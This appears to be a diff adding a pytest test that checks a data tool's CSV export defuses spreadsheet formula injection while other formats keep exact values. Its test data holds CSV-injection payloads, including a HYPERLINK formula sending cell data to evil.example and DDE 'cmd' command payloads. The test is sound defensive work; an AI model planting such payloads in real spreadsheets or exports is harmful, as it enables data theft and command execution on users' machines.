@@ -135,6 +135,48 @@ def test_export_text_that_looks_null_survives(tmp_path, suffix, section):
     assert back["claims"].to_pylist()[0]["section"] == section
 
 
+# Cells a spreadsheet would evaluate (OWASP, "CSV Injection"), and text that is left alone.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    "'quoted already",
+]
+HARMLESS = ["Syria", "a=b", " =1+1", "(-2)"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".duckdb"])
+def test_export_csv_neutralises_formulas_others_keep_exact_values(tmp_path, runner, suffix):
+    import csv
+
+    records = load_records(seed_records_file(tmp_path))[: len(FORMULAS) + len(HARMLESS)]
+    values = FORMULAS + HARMLESS
+    batch = [
+        r.model_copy(update={"section": v, "text": v}) for r, v in zip(records, values, strict=True)
+    ]
+    source = tmp_path / "formulas.jsonl"
+    source.write_text("".join(r.model_dump_json() + "\n" for r in batch), "utf-8")
+    dest = tmp_path / f"out{suffix}"
+    result = runner.invoke(main, ["export", str(source), "--to", str(dest)])
+    assert result.exit_code == 0, result.output
+    back = {c["claim_id"]: c for c in read_tables(dest)["claims"].to_pylist()}
+    assert [(back[r.claim_id]["section"], back[r.claim_id]["text"]) for r in batch] == [
+        (v, v) for v in values
+    ]  # every format reads back the exact values
+    if suffix != ".csv":
+        return
+    with open(dest / "claims.csv", newline="", encoding="utf-8") as handle:
+        cells = {row["claim_id"]: row for row in csv.DictReader(handle)}
+    for record, value in zip(batch, values, strict=True):
+        shown = "'" + value if value in FORMULAS else value
+        assert cells[record.claim_id]["section"] == shown
+        assert cells[record.claim_id]["text"] == shown
+
+
 def test_export_tables_are_typed(tmp_path):
     exported = tables(load_records(seed_records_file(tmp_path)))
     claims = exported["claims"].schema
